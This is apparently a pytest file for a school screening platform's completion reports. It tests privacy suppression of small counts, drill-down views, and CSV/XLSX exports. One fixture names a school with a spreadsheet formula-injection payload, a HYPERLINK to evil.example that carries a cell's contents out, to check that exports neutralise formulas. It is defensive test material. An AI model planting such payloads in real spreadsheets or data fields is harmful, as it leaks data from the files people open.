"""What the completion figures disclose to county and city officers.

T19: small cells stay hidden across the levels — a drill-down cannot undo what a table above it
hid (no recovery by subtracting a school's own total from its county's). T16: the table as CSV /
XLSX has the same figures and suppression as the page, formula-safe text, rows only in the
exporter's scope, and every export is logged."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import openpyxl
import pytest
import sqlalchemy as sa
from screening_world import app, build_world, class_units, make_user, quick_argon2, roster_rows, to_csv  # noqa: F401

from mh_platform.core.errors import NotFound, ValidationFailed
from mh_platform.core.spreadsheet import FORMULA_TRIGGERS
from mh_platform.core.types import Role, UnitKind
from mh_platform.db.models import Enrolment, EventLog
from mh_platform.services import campaigns, completion, consent, roster
from mh_platform.services.org import add_unit

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
LABELS = {"unit": "单位", "eligible": "应测", "consented": "已同意", "started": "已开始", "completed": "已完成",
          "readminister": "建议重测", "total": "合计", "suppressed": "*", "note": "* 为保护隐私不显示"}
PASSWORD = "correct horse 1"


@pytest.fixture
def county_campaign(ctx):
    """A county campaign over two junior schools: the world's (2 classes of 6, one refusal each) and
    one whose name is a formula, with 3 students (a small cell for the county officer)."""
    world = build_world(ctx)
    with ctx.uow() as uow:
        hostile = add_unit(uow.session, kind=UnitKind.SCHOOL, name=HOSTILE_NAME, code="xlt-s002",
                           parent=uow.session.merge(world.county), now=ctx.now(), stage="junior")
        uow.commit()
    hostile_counsellor = make_user(ctx, "t.hostile", Role.COUNSELLOR, hostile.id)
    roster.commit(ctx, world.counsellor, to_csv(roster_rows(classes=2, per_class=6)), "a.csv")
    roster.commit(ctx, hostile_counsellor, to_csv(roster_rows(school_code="xlt-s002", classes=1, per_class=3,
                                                              start=100)), "b.csv")
    for i, cls in enumerate(class_units(ctx, world.school) + class_units(ctx, hostile)):
        ht = make_user(ctx, f"t.ht{i}", Role.HEAD_TEACHER, cls.id)
        with ctx.uow() as uow:
            ids = list(uow.session.scalars(sa.select(Enrolment.student_id).where(Enrolment.class_unit_id == cls.id)))
        consent.record_many(ctx, ht, [consent.ConsentIn(sid, "granted" if j else "refused") for j, sid in enumerate(ids)])
    now = ctx.now()
    cid = campaigns.create(ctx, world.county_officer, name="区普测", unit_ids=[world.county.id], grades=[7],
                           opens_at=now - timedelta(minutes=1), closes_at=now + timedelta(days=3))
    campaigns.open_due(ctx, now)
    return world, hostile, cid


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def _expected(rep) -> list[list[str]]:
    """The page's table as text: each row's name (formula-safe), then its figures or the mark."""
    def name(n: str) -> str:
        return "'" + n if n.startswith(FORMULA_TRIGGERS) else n
    return [[name(r.name) if r is not rep.unit else "合计",
             *["*" if getattr(r, f) is None else str(getattr(r, f)) for f in completion.FIGURES]]
            for r in [*rep.rows, rep.unit]]


def test_the_county_export_is_the_suppressed_table_formula_safe_and_logged(ctx, county_campaign):
    world, hostile, cid = county_campaign
    rep = completion.completion(ctx, world.county_officer, cid)
    by_name = {r.name: r for r in rep.rows}
    # the page's own figures: the small school is suppressed, and the other school with it
    assert by_name[HOSTILE_NAME].eligible is None and by_name["兴隆台第一中学"].eligible is None
    assert rep.unit.eligible == 15 and rep.unit.consented == 12

    out = completion.export(ctx, world.county_officer, cid, None, "csv", LABELS)
    assert re.fullmatch(r"completion-[0-9a-f]{8}\.csv", out.filename) and out.rows == 2
    rows = _csv_rows(out.data)
    assert rows[0] == ["单位", "应测", "已同意", "已开始", "已完成", "建议重测"]
    assert rows[1:4] == _expected(rep)
    assert rows[4:] == [[], ["* 为保护隐私不显示"]]
    assert "'" + HOSTILE_NAME in [r[0] for r in rows if r]
    assert not any(c.startswith(FORMULA_TRIGGERS) for r in rows for c in r)

    x = completion.export(ctx, world.county_officer, cid, None, "xlsx", LABELS)
    ws = openpyxl.load_workbook(io.BytesIO(x.data)).active
    cells = [c for r in ws.iter_rows() for c in r]
    assert cells and all(c.data_type != "f" for c in cells)
    got = [["" if c.value is None else str(c.value) for c in r] for r in ws.iter_rows()]
    assert [r[:6] for r in got[:4]] == rows[:4]  # the same table as the CSV
    assert isinstance(ws.cell(row=4, column=2).value, int)  # figures are numbers, not text

    with ctx.uow() as uow:
        ev = [(e.data["format"], e.data["rows"], e.data["unit_id"], e.object_id) for e in uow.session.scalars(
            sa.select(EventLog).where(EventLog.kind == "screening:completion_exported").order_by(EventLog.id))]
    assert ev == [("csv", 2, str(world.county.id), str(cid)), ("xlsx", 2, str(world.county.id), str(cid))]


def test_a_drill_down_cannot_undo_the_suppression_above(ctx, county_campaign):
    world, hostile, cid = county_campaign
    county = completion.completion(ctx, world.county_officer, cid)
    small = next(r for r in county.rows if r.name == HOSTILE_NAME)
    hidden_in_county = set(small.suppressed)
    assert {"eligible", "consented"} <= hidden_in_county  # 3 and 2 students
    assert county.unit.eligible == 15 and county.unit.started == 0  # totals and zeros stay shown
    for officer in (world.county_officer, world.city_officer):
        for school in (world.school, hostile):
            view = completion.completion(ctx, officer, cid, school.id)
            for f in completion.FIGURES:
                shown = [getattr(r, f) for r in [*view.rows, view.unit]]
                if f in hidden_in_county:
                    # the school's own total (or its classes' sum) would give the other school by subtraction
                    assert shown == [None] * len(shown), (officer.username, school.name, f, shown)
                else:
                    assert None not in shown
    # the city officer's county view hides nothing the city table showed: it is the county officer's
    city_view = completion.completion(ctx, world.city_officer, cid, world.county.id)
    assert [(r.name, r.eligible, r.consented, r.started) for r in [*city_view.rows, city_view.unit]] == \
        [(r.name, r.eligible, r.consented, r.started) for r in [*county.rows, county.unit]]
    # school staff see their own school's numbers unsuppressed
    own = completion.completion(ctx, world.counsellor, cid)
    assert own.unit.eligible == 12 and [r.eligible for r in own.rows] == [6, 6]


def test_a_drill_down_reads_the_enrolments_once(ctx, county_campaign):
    """An officer's drill-down makes every table above the viewed unit (for the suppression it
    inherits) from one aggregate query over the officer's own unit, not one query per level; the
    figures are those of the level's own table."""
    world, _hostile, cid = county_campaign
    cls = class_units(ctx, world.school)[0]
    aggregates: list[str] = []

    def seen(_conn, _cursor, statement, *_a):
        if "GROUP BY" in statement.upper() and "enrolment" in statement.lower():
            aggregates.append(statement)

    sa.event.listen(ctx.engine, "before_cursor_execute", seen)
    try:
        views = {u.id: completion.completion(ctx, world.city_officer, cid, u.id)
                 for u in (world.county, world.school, cls)}
    finally:
        sa.event.remove(ctx.engine, "before_cursor_execute", seen)
    assert len(aggregates) == 3  # one per view (it was one per level from the city down: 10)
    school_staff = completion.completion(ctx, world.counsellor, cid)
    assert [r.eligible for r in school_staff.rows] == [6, 6]
    # the class view, three levels under the city, shows the class's own (inherited-suppressed) figures
    assert views[cls.id].unit.unit_id == cls.id and [r.unit_id for r in views[cls.id].rows] == [cls.id]
    assert views[world.county.id].unit.eligible == 15


def test_a_school_export_is_unsuppressed_and_names_no_student(ctx, county_campaign):
    world, hostile, cid = county_campaign
    rows = _csv_rows(completion.export(ctx, world.counsellor, cid, None, "csv", LABELS).data)
    assert [r[0] for r in rows[1:]] == ["七年级1班", "七年级2班", "合计"]
    assert rows[-1] == ["合计", "12", "10", "0", "0", "0"]
    # no name or student number of the roster appears anywhere in the file
    text = "\n".join(",".join(r) for r in rows)
    for r in roster_rows(classes=2, per_class=6):
        assert r[3] not in text and r[4] not in text


def test_export_scope_and_format_are_refused_like_the_page(ctx, county_campaign):
    world, hostile, cid = county_campaign
    with pytest.raises(NotFound):  # a campaign of another county: it does not exist for them
        completion.export(ctx, world.other_counsellor, cid, None, "csv", LABELS)
    with pytest.raises(NotFound):  # a unit outside the counsellor's school
        completion.export(ctx, world.counsellor, cid, hostile.id, "csv", LABELS)
    with pytest.raises(ValidationFailed):
        completion.export(ctx, world.county_officer, cid, None, "pdf", LABELS)
    with ctx.uow() as uow:
        assert uow.session.scalar(sa.select(sa.func.count()).select_from(EventLog)
                                  .where(EventLog.kind == "screening:completion_exported")) == 0


def test_the_campaign_page_links_the_downloads_and_they_are_attachments(ctx, county_campaign, app):
    world, hostile, cid = county_campaign
    client = app.test_client()
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").text).group(1)
    assert client.post("/login", data={"username": "t.county", "password": PASSWORD,
                                       "csrf_token": token}).status_code in (302, 303)
    page = client.get(f"/screening/{cid}")
    assert f'action="/screening/{cid}/completion.xlsx"' in page.text and "&lt;5" not in page.text
    form_token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    r = client.post(f"/screening/{cid}/completion.xlsx", data={"csrf_token": form_token})
    assert r.status_code == 200 and r.mimetype.endswith("spreadsheetml.sheet")
    assert r.headers["Content-Disposition"] == f'attachment; filename="completion-{cid.hex[:8]}.xlsx"'
    assert "no-store" in r.headers.get("Cache-Control", "")
    r = client.post(f"/screening/{cid}/completion.csv", data={"csrf_token": form_token, "unit": str(world.county.id)})
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert _csv_rows(r.data)[0][0] == "单位"
    # without the form's token nothing is exported or logged (another site cannot log exports in an officer's name)
    assert client.post(f"/screening/{cid}/completion.csv").status_code in (400, 403)
    assert client.get(f"/screening/{cid}/completion.csv").status_code == 405
    assert client.post(f"/screening/{cid}/completion.pdf", data={"csrf_token": form_token}).status_code == 404
    assert client.post(f"/screening/{cid}/completion.csv",
                       data={"csrf_token": form_token, "unit": str(world.other_school.id)}).status_code == 404
    with ctx.uow() as uow:
        assert uow.session.scalar(sa.select(sa.func.count()).select_from(EventLog)
                                  .where(EventLog.kind == "screening:completion_exported")) == 2
